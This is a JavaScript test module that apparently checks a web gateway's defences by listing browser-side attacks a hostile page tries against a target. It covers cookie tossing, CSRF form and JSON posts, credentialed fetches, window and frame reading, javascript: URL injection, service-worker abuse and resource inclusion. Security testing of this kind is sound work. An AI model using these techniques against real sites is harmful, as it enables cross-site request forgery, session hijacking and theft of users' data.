// What a hostile page tries: each attack is a function that runs in the attacker's page against one target.
//
// It returns what the page came to know, as texts. `opens` marks what a browser lets every page do to every other: have a
// window show it, as a link does; the app then sees a plain navigation, and the page still learns nothing.
//
// A target has `origin`; `path(end)`, which leads to its app or, at the gateway, to what somebody would want to read;
// `acts`, which change something there, with the body that does; and `sockets`.

/** Runs in the attacker's page before its own scripts. */
export function tools() {
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const soon = (promise, ms = 1500) => Promise.race([promise, wait(ms).then(() => 'silence')]);
  const said = (promise) => soon(Promise.resolve(promise).then((value) => String(value), (error) => `failed: ${error.message}`));
  /** What can be read of a document, if it is there to be read. */
  const seen = (read) => {
    try {
      return String(read());
    } catch (error) {
      return `failed: ${error.message}`;
    }
  };
  const loaded = (element, ms) => soon(new Promise((done) => (element.onload = element.onerror = ({ type }) => done(type))), ms);
  const element = async (name, attributes, ms = 700) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    const ended = loaded(made, ms);
    document.body.append(made);
    const how = await ended;
    await wait(50);
    return [made, how];
  };
  const frame = async (attributes, ms) => {
    const [made] = await element('iframe', attributes, ms);
    const text = seen(() => made.contentDocument.documentElement.innerText);
    const inside = seen(() => made.contentWindow.location.href);
    made.remove();
    return [text, inside];
  };
  /** Opens a window, waits until it shows something else, and looks at it. */
  const popup = async (open, ms = 500) => {
    const opened = open();
    if (!opened) return ['no window'];
    for (let tries = 0; tries < 40 && seen(() => opened.location.href) === 'about:blank'; tries += 1) await wait(50);
    await wait(ms);
    const read = [seen(() => opened.location.href), seen(() => opened.document.body.innerText), seen(() => opened.name)];
    opened.close();
    return read;
  };
  let windows = 0;
  /** Submits a form into a frame or a window of its own. */
  const submit = async ({ method = 'post', enctype = 'application/x-www-form-urlencoded', action, fields, into = 'frame', referrer }) => {
    const form = document.createElement('form');
    Object.assign(form, { method, enctype, action, target: `w${(windows += 1)}` });
    if (referrer) form.setAttribute('rel', referrer);
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement('textarea');
      Object.assign(input, { name, value });
      form.append(input);
    }
    document.body.append(form);
    if (into === 'window') {
      const read = await popup(() => {
        const opened = window.open('about:blank', form.target);
        form.submit();
        return opened;
      });
      form.remove();
      return read;
    }
    const made = document.createElement('iframe');
    made.name = form.target;
    document.body.append(made);
    const ended = loaded(made, 700);
    form.submit();
    await ended;
    await wait(50);
    const text = seen(() => made.contentDocument.documentElement.innerText);
    made.remove();
    form.remove();
    return [text];
  };
  /** Runs source in a frame without an origin; what it says with `tell(...)` is what it came to know. */
  const sandboxed = async (source, ms = 900) => {
    const told = [];
    const made = document.createElement('iframe');
    made.setAttribute('sandbox', 'allow-scripts allow-forms allow-popups');
    made.srcdoc = `<script>const tell = (x) => parent.postMessage(String(x), '*');${source}</scr${'ipt'}>`;
    const listen = ({ data, source: from }) => from === made.contentWindow && told.push(data);
    addEventListener('message', listen);
    document.body.append(made);
    await wait(ms);
    removeEventListener('message', listen);
    made.remove();
    return told;
  };
  const socket = (url, protocols = []) =>
    soon(
      new Promise((done) => {
        const open = new WebSocket(url, protocols);
        open.onopen = () => setTimeout(() => done('socket opened'), 200);
        open.onmessage = ({ data }) => done(`socket opened: ${data}`);
        open.onerror = () => done('failed');
      }),
    );
  /** An address of the attacker's own that answers as it likes. */
  const answer = (asked) => `/answer?${new URLSearchParams(asked)}`;
  const worker = async (source, scope) => {
    const registration = await navigator.serviceWorker.register(answer({ type: 'text/javascript', h: 'Service-Worker-Allowed: /', body: source }), { scope });
    const active = registration.installing ?? registration.waiting ?? registration.active;
    await soon(new Promise((done) => (active.state === 'activated' ? done() : (active.onstatechange = () => active.state === 'activated' && done()))));
    return registration;
  };
  const ask = (registration, message) =>
    soon(
      new Promise((done) => {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => done(data);
        registration.active.postMessage(message, [port2]);
      }),
      2500,
    );
  const speculate = async (how, url) => {
    for (const referrer_policy of ['strict-origin-when-cross-origin', 'no-referrer']) {
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      rules.textContent = JSON.stringify({ [how]: [{ source: 'list', urls: [`${url}?${referrer_policy}`], eagerness: 'immediate', referrer_policy }] });
      document.head.append(rules);
      await wait(500);
      rules.remove();
    }
    return [];
  };
  globalThis.tools = { wait, soon, said, seen, element, frame, popup, submit, sandboxed, socket, answer, worker, ask, speculate };
}

const NAMES = ['__Host-portico_access', '__Host-portico_session', '__Host-portico_nonce_aaaaaaaa', '__host-portico_access', '__HOST-PORTICO_ACCESS', '__Host-portico_ACCESS'];

/** The table: what is tried, and how. */
export const ATTACKS = {
  // Cookies.
  'cookies: read them': async () => [document.cookie, JSON.stringify(await cookieStore.getAll())],
  'cookies: set ours for the parent domain': async (to, { names }) => {
    const parents = [to.host, to.host.replace(/^[^.]+\./, ''), 'localhost'];
    for (const parent of parents) {
      for (const name of names) {
        for (const written of [`${name}=x`, ` ${name} =x`, `=${name}=x`, `${name}`, `\t${name}=x`, `"${name}"=x`]) {
          for (const rest of [`Domain=${parent}; Path=/; Secure`, `Domain=.${parent}; Path=/`, `Path=/; Secure; Domain=${parent}; Partitioned`]) document.cookie = `${written}; ${rest}`;
        }
        await cookieStore.set({ name, value: 'x', domain: parent, path: '/' }).catch(() => {});
      }
    }
    return [];
  },
  'cookies: the app sets ours': async (to, { names }) => {
    const parents = [to.host, to.host.replace(/^[^.]+\./, '')];
    const fields = parents.flatMap((parent) => names.flatMap((name) => [`Set-Cookie: ${name}=x; Domain=${parent}; Path=/; Secure`, `Set-Cookie: =${name}=x; Domain=${parent}; Path=/`]));
    for (let at = 0; at < fields.length; at += 12) {
      const asked = new URLSearchParams({ body: 'x' });
      for (const field of fields.slice(at, at + 12)) asked.append('h', field);
      await fetch(`/answer?${asked}`);
    }
    return [document.cookie];
  },
  'Clear-Site-Data: by the app': async () => {
    const url = tools.answer({ h: 'Clear-Site-Data: "*", "cookies", "storage", "cache", "executionContexts"', body: 'x' });
    await fetch(url);
    await tools.frame({ src: url });
    await tools.popup(() => window.open(url));
    return [];
  },
  'Clear-Site-Data: by a service worker': async (to) => {
    const source = `addEventListener('fetch', (event) => event.respondWith(new Response('x', { headers: { 'content-type': 'text/html', 'Clear-Site-Data': '"cookies", "storage"' } })));addEventListener('activate', (event) => event.waitUntil(clients.claim()));`;
    const registration = await tools.worker(source, `/cleared-${to.id}/`);
    await tools.frame({ src: `/cleared-${to.id}/page` });
    await tools.popup(() => window.open(`/cleared-${to.id}/page`));
    await registration.unregister();
    return [];
  },
  'Clear-Site-Data: by a head of our own making': async () => {
    const headers = Object.fromEntries(Array.from({ length: 6 }, (_, index) => [`x-anything-${index}`, 'x'.repeat(15_000)]));
    return [await tools.said(fetch('/', { headers }).then((answer) => answer.status))];
  },

  // Forms.
  'form: GET into a window': { opens: true, run: (to) => tools.submit({ method: 'get', action: to.path('html'), fields: { a: '1' }, into: 'window' }) },
  'form: GET into a frame': (to) => tools.submit({ method: 'get', action: to.path('html'), fields: { a: '1' } }),
  'form: POST': (to) => Promise.all(to.acts.map(({ url, form }) => tools.submit({ action: url, fields: form }))),
  'form: POST into a window': (to) => Promise.all(to.acts.map(({ url, form }) => tools.submit({ action: url, fields: form, into: 'window' }))),
  'form: multipart': (to) => Promise.all(to.acts.map(({ url, form }) => tools.submit({ action: url, fields: form, enctype: 'multipart/form-data' }))),
  'form: JSON as text/plain': (to) =>
    Promise.all(
      to.acts.flatMap(({ url, json }) => {
        const fields = { [`${json.slice(0, -1)}, "x": "`]: '"}' };
        return [tools.submit({ action: url, fields, enctype: 'text/plain' }), tools.submit({ action: url, fields, enctype: 'text/plain', into: 'window' })];
      }),
    ),
  'form: POST without a referrer': (to) => Promise.all(to.acts.map(({ url, form }) => tools.submit({ action: url, fields: form, referrer: 'noreferrer' }))),
  'form: POST from a sandbox': (to) =>
    tools.sandboxed(
      `const made = [];for (const { url, form } of ${JSON.stringify(to.acts)}) { const f = document.createElement('form'); f.method = 'post'; f.action = url; f.target = '_blank'; for (const [n, v] of Object.entries(form)) { const i = document.createElement('input'); i.name = n; i.value = v; f.append(i); } document.documentElement.append(f); f.submit(); }`,
    ),
  'form: POST after a redirect of the app': (to) =>
    Promise.all(to.acts.map(({ url, form }) => tools.submit({ action: tools.answer({ status: 307, h: `Location: ${url}` }), fields: form }))),

  // fetch and its kin.
  'fetch: no-cors GET': (to) => Promise.all(['json', 'js', 'html'].map((end) => tools.said(fetch(to.path(end), { mode: 'no-cors', credentials: 'include' }).then((answer) => answer.text())))),
  'fetch: no-cors GET without a referrer': (to) => tools.said(fetch(to.path('json'), { mode: 'no-cors', credentials: 'include', referrerPolicy: 'no-referrer' }).then((answer) => answer.text())),
  'fetch: cors GET with credentials': (to) => tools.said(fetch(to.path('json'), { credentials: 'include' }).then((answer) => answer.text())),
  'fetch: cors GET without a referrer': (to) => tools.said(fetch(to.path('json'), { credentials: 'include', referrerPolicy: 'no-referrer', cache: 'force-cache' }).then((answer) => answer.text())),
  'fetch: HEAD and OPTIONS': (to) => Promise.all(['HEAD', 'OPTIONS'].map((method) => tools.said(fetch(to.path('json'), { method, credentials: 'include' }).then((answer) => [...answer.headers].join())))),
  'fetch: simple POST': (to) =>
    Promise.all(to.acts.flatMap(({ url, json }) => ['no-cors', 'cors'].map((mode) => tools.said(fetch(url, { method: 'POST', mode, credentials: 'include', body: json, headers: { 'content-type': 'text/plain' } }).then((answer) => answer.text()))))),
  'fetch: preflighted JSON': (to) =>
    Promise.all(
      to.acts.flatMap(({ url, json }) =>
        ['POST', 'PUT', 'DELETE'].map((method) => tools.said(fetch(url, { method, credentials: 'include', body: json, headers: { 'content-type': 'application/json', 'x-anything': '1' } }).then((answer) => answer.text()))),
      ),
    ),
  'fetch: keepalive': (to) => Promise.all(to.acts.map(({ url, json }) => tools.said(fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, credentials: 'include', body: json })))),
  'fetch: after a redirect of the app': (to) =>
    Promise.all(
      ['no-cors', 'cors'].flatMap((mode) => [
        tools.said(fetch(tools.answer({ status: 302, h: `Location: ${to.path('json')}` }), { mode, credentials: 'include' }).then((answer) => answer.text())),
        ...to.acts.map(({ url, json }) => tools.said(fetch(tools.answer({ status: 307, h: `Location: ${url}` }), { mode, method: 'POST', credentials: 'include', body: json }).then((answer) => answer.text()))),
      ]),
    ),
  'fetch: from a sandbox': (to) =>
    tools.sandboxed(
      `for (const mode of ['no-cors', 'cors']) { fetch(${JSON.stringify(to.path('json'))}, { mode, credentials: 'include' }).then((a) => a.text()).then(tell, tell); for (const { url, json } of ${JSON.stringify(to.acts)}) fetch(url, { mode, method: 'POST', credentials: 'include', body: json }).then((a) => a.text()).then(tell, tell); }`,
    ),
  'fetch: from a worker': (to) => {
    const source = `onmessage = async ({ data }) => postMessage(await fetch(data, { credentials: 'include' }).then((a) => a.text()).catch(String))`;
    const worker = new Worker(URL.createObjectURL(new Blob([source])));
    return tools.said(new Promise((done) => ((worker.onmessage = ({ data }) => done(data)), worker.postMessage(to.path('json')))));
  },
  'fetch: XMLHttpRequest': (to) =>
    tools.said(
      new Promise((done) => {
        const asked = new XMLHttpRequest();
        asked.open('GET', to.path('json'));
        asked.withCredentials = true;
        asked.onloadend = () => done(asked.responseText);
        asked.send();
      }),
    ),
  'fetch: with a made-up identity': (to) =>
    Promise.all(
      ['x-portico-token', 'x-forwarded-host', 'x-anything'].map((name) => tools.said(fetch(to.path('json'), { credentials: 'include', headers: { [name]: to.host } }).then((answer) => answer.text()))),
    ),
  'fetch: sendBeacon': (to) => to.acts.flatMap(({ url, json }) => [json, new Blob([json], { type: 'text/plain' }), new URLSearchParams({ a: '1' })].map((body) => tools.seen(() => navigator.sendBeacon(url, body)))),
  'fetch: sendBeacon as JSON': (to) => to.acts.map(({ url, json }) => tools.seen(() => navigator.sendBeacon(url, new Blob([json], { type: 'application/json' })))),
  'fetch: EventSource': (to) =>
    tools.said(
      new Promise((done) => {
        const events = new EventSource(to.path('events'), { withCredentials: true });
        events.onmessage = ({ data }) => (events.close(), done(data));
        events.onerror = () => (events.close(), done('failed'));
      }),
    ),
  'socket: with and without a protocol': (to) => Promise.all(to.sockets.flatMap((url) => [tools.socket(url), tools.socket(url, ['portico', 'vscode'])])),
  'socket: from a sandbox': (to) =>
    tools.sandboxed(`for (const url of ${JSON.stringify(to.sockets)}) { const s = new WebSocket(url); s.onopen = () => tell('socket opened'); s.onmessage = ({ data }) => tell(data); }`),

  // Frames and windows.
  'frame: plain': (to) => tools.frame({ src: to.path('html') }),
  'frame: without a referrer': (to) => tools.frame({ src: to.path('html'), referrerpolicy: 'no-referrer' }),
  'frame: inside a frame of our own': (to) => tools.frame({ src: tools.answer({ body: `<iframe src="${to.path('html')}"></iframe>` }) }),
  'frame: inside a sandbox': (to) => tools.sandboxed(`document.documentElement.innerHTML = '<iframe src="${to.path('html')}"></iframe>'`),
  'frame: after a redirect of the app': (to) => tools.frame({ src: tools.answer({ status: 302, h: `Location: ${to.path('html')}` }) }),
  'frame: credentialless': (to) => tools.frame({ src: to.path('html'), credentialless: '' }),
  'frame: object and embed': async (to) => {
    for (const [name, attribute] of [['object', 'data'], ['embed', 'src']]) {
      const [made] = await tools.element(name, { [attribute]: to.path('html'), type: 'text/html' });
      made.remove();
    }
    return [];
  },
  'window: read what it shows': { opens: true, run: (to) => tools.popup(() => window.open(to.path('html'))) },
  'window: steer it by script': {
    opens: true,
    run: async (to) => {
      const opened = window.open(to.path('html'));
      await tools.wait(600);
      const tried = [tools.seen(() => (opened.location = `javascript:opener.stolen=document.body.innerText`)), tools.seen(() => opened.eval('document.body.innerText')), tools.seen(() => opened.history.length), tools.seen(() => (opened.onload = 1))];
      await tools.wait(200);
      opened.close();
      return [...tried, String(globalThis.stolen)];
    },
  },
  'window: its opener, and what it posts': {
    opens: true,
    run: async (to) => {
      const told = [];
      addEventListener('message', ({ data }) => told.push(JSON.stringify(data)));
      const opened = window.open(to.path('html'));
      for (let count = 0; count < 6; count += 1) {
        await tools.wait(100);
        tools.seen(() => opened.postMessage({ type: 'hello' }, '*'));
      }
      tools.seen(() => (opened.location = tools.answer({ body: '<script>opener && opener.postMessage(document.referrer, "*")</script>' })));
      await tools.wait(400);
      opened.close();
      return told;
    },
  },
  'window: document.domain': { opens: true, run: async (to) => [tools.seen(() => (document.domain = to.host.replace(/^[^.]+\./, ''))), ...(await tools.popup(() => window.open(to.path('html'))))] },

  // Service workers.
  'service worker: ours to register there': async (to) => {
    const register = (script, scope) => tools.said(navigator.serviceWorker.register(script, { scope }));
    const source = tools.answer({ type: 'text/javascript', h: 'Service-Worker-Allowed: /', body: 'onfetch = () => {}' });
    const tried = [await register(`${to.origin}/m/sw.js`), await register(source, `${to.origin}/`), await register('/.portico/sw.js', '/.portico/'), await register('/.portico/redeem', '/.portico/')];
    for (const registration of await navigator.serviceWorker.getRegistrations()) {
      tried.push(registration.scope);
      await registration.unregister();
    }
    return tried;
  },
  'service worker: fetches and imports': async (to) => {
    const source = `addEventListener('message', async ({ data, ports }) => {
      const said = [];
      const text = async (asked) => said.push(await asked().then((a) => a.text()).catch(String));
      await text(() => fetch(data, { credentials: 'include' }));
      await text(() => fetch(data, { mode: 'no-cors', credentials: 'include' }));
      await text(() => fetch(data, { mode: 'no-cors', credentials: 'include', referrerPolicy: 'no-referrer' }));
      await text(async () => fetch(new Request(data, { mode: 'navigate', credentials: 'include' })));
      await text(async () => (await caches.open('x')).add(new Request(data, { mode: 'no-cors', credentials: 'include' })));
      try { importScripts(data); } catch (error) { said.push(String(error)); }
      ports[0].postMessage(said);
    });`;
    const scope = `/fetches-${to.id}/`;
    const registration = await tools.worker(source, scope);
    const known = await tools.ask(registration, to.path('js'));
    await registration.unregister();
    return [known, String(globalThis.stolen)];
  },
  'service worker: navigations through it': async (to) => {
    const source = `addEventListener('fetch', (event) => { const to = new URL(event.request.url).searchParams.get('to'); if (to) event.respondWith(fetch(to, { mode: 'no-cors', credentials: 'include' }).catch(() => fetch(event.request))); });`;
    const scope = `/through-${to.id}/`;
    const registration = await tools.worker(source, scope);
    const known = await tools.frame({ src: `${scope}page?to=${encodeURIComponent(to.path('html'))}` });
    await registration.unregister();
    return known;
  },

  // Inclusion.
  'inclusion: script': async (to) => ([await tools.element('script', { src: to.path('js') }), String(globalThis.stolen)].map(String)),
  'inclusion: module with credentials': async (to) => ([await tools.element('script', { src: to.path('js'), type: 'module', crossorigin: 'use-credentials' }), await tools.said(import(to.path('js'))), String(globalThis.stolen)].map(String)),
  'inclusion: script without a referrer': async (to) => ([await tools.element('script', { src: to.path('js'), referrerpolicy: 'no-referrer' }), String(globalThis.stolen)].map(String)),
  'inclusion: image and icon': async (to) => {
    const [image] = await tools.element('img', { src: to.path('svg') });
    const [other] = await tools.element('img', { src: to.path('svg'), referrerpolicy: 'no-referrer', crossorigin: 'use-credentials' });
    await tools.element('link', { rel: 'icon', href: to.path('svg') }, 200);
    return [image, other].map((made) => (made.naturalWidth === 7 ? `stolen size of ${to.secret}` : 'nothing'));
  },
  'inclusion: style sheet, @import and font': async (to) => {
    await tools.element('link', { rel: 'stylesheet', href: to.path('css') });
    await tools.element('link', { rel: 'stylesheet', href: to.path('css'), crossorigin: 'use-credentials' });
    const sheet = document.createElement('style');
    sheet.textContent = `@import "${to.path('css')}"; @font-face { font-family: f; src: url("${to.path('woff2')}"); } body { font-family: f; background: url("${to.path('svg')}") }`;
    document.body.append(sheet);
    await tools.wait(300);
    const stolen = getComputedStyle(document.documentElement).getPropertyValue('--stolen');
    sheet.remove();
    return [stolen];
  },
  'inclusion: media and manifest': async (to) => {
    await tools.element('video', { src: to.path('mp4') }, 200);
    await tools.element('audio', { src: to.path('mp3'), crossorigin: 'use-credentials' }, 200);
    await tools.element('link', { rel: 'manifest', href: to.path('json'), crossorigin: 'use-credentials' }, 200);
    const [video] = await tools.element('video', { crossorigin: 'use-credentials' }, 50);
    const track = document.createElement('track');
    Object.assign(track, { src: to.path('vtt'), kind: 'subtitles', default: true });
    video.append(track);
    track.track.mode = 'showing';
    await tools.wait(300);
    return [...(track.track.cues ?? [])].map((cue) => cue.text);
  },
  'speculation: link': async (to) => {
    for (const [rel, as] of [['preload', 'fetch'], ['preload', 'script'], ['modulepreload', 'script'], ['prefetch', 'document'], ['prefetch', 'script'], ['prerender', 'document']]) {
      await tools.element('link', { rel, as, href: to.path(as === 'document' ? 'html' : 'js') }, 100);
      await tools.element('link', { rel, as, href: to.path(as === 'document' ? 'html' : 'js'), crossorigin: 'use-credentials', referrerpolicy: 'no-referrer' }, 100);
    }
    return [];
  },
  'speculation: prefetch': (to) => tools.speculate('prefetch', to.path('html')),
  'speculation: prerender': (to) => tools.speculate('prerender', to.path('html')),
  'inclusion: ping and reports': async (to) => {
    const link = document.createElement('a');
    Object.assign(link, { href: '#here', ping: to.acts[0].url });
    document.body.append(link);
    link.click();
    await tools.frame({ src: tools.answer({ h: `Content-Security-Policy: img-src 'none'; report-uri ${to.acts[0].url}`, body: '<img src="/x.png">' }) });
    return [];
  },
};

/** Names of ours that others try to use. */
export { NAMES };
